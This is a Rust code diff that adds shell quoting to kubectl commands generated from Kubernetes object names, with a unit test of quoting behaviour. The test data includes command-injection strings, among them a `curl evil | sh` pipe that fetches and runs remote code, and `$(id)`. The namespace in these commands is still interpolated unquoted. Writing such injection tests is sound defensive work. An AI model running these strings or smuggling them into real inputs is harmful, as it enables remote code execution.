@@ -1,4 +1,8 @@
 //! Commands for people to copy.
+//!
+//! What comes from objects is quoted where a shell would do more with it than hand it on.
+
+use std::borrow::Cow;
 
 use capstan_api::contract::crd_name;
 use serde_json::{Value, json};
@@ -8,16 +12,26 @@ use crate::fields::{group, kind, name, text};
 
 /// How kubectl addresses a kind: by plural and group, because several groups may have a kind of the same name.
 pub(crate) fn resource(snapshot: &ExplainSnapshot, of_group: &str, of_kind: &str) -> String {
-    match snapshot.workload.crd(of_group, of_kind) {
+    let address = match snapshot.workload.crd(of_group, of_kind) {
         Some(crd) => format!("{}.{}", crd.plural, crd.group),
         None if of_group.is_empty() => of_kind.to_lowercase(),
         None => crd_name(of_group, of_kind),
+    };
+    word(&address).into_owned()
+}
+
+/// One word for a shell.
+pub(crate) fn word(text: &str) -> Cow<'_, str> {
+    let is_plain = |it: char| it.is_ascii_alphanumeric() || "-_./:@%+=,".contains(it);
+    if !text.is_empty() && text.chars().all(is_plain) {
+        return Cow::Borrowed(text);
     }
+    Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
 }
 
 fn address(snapshot: &ExplainSnapshot, object: &Value) -> String {
     let namespace = text(object, "/metadata/namespace").map(|it| format!(" -n {it}")).unwrap_or_default();
-    format!("{} {}{namespace}", resource(snapshot, group(object), kind(object)), name(object))
+    format!("{} {}{namespace}", resource(snapshot, group(object), kind(object)), word(name(object)))
 }
 
 /// Shows an object and its events.
@@ -54,4 +68,22 @@ pub(crate) fn unfinalize(snapshot: &ExplainSnapshot, object: &Value, finalizer: 
 /// Shows the last log lines of a controller.
 pub(crate) fn logs(namespace: &str, deployment: &str) -> String {
     format!("kubectl logs -n {namespace} deployment/{deployment} --tail 100")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_shell_would_act_on_is_quoted() {
+        for (text, expected) in [
+            ("clusters.cluster.x-k8s.io", "clusters.cluster.x-k8s.io"),
+            ("x; curl evil | sh", "'x; curl evil | sh'"),
+            ("$(id)", "'$(id)'"),
+            ("it's", r"'it'\''s'"),
+            ("", "''"),
+        ] {
+            assert_eq!(word(text), expected);
+        }
+    }
 }
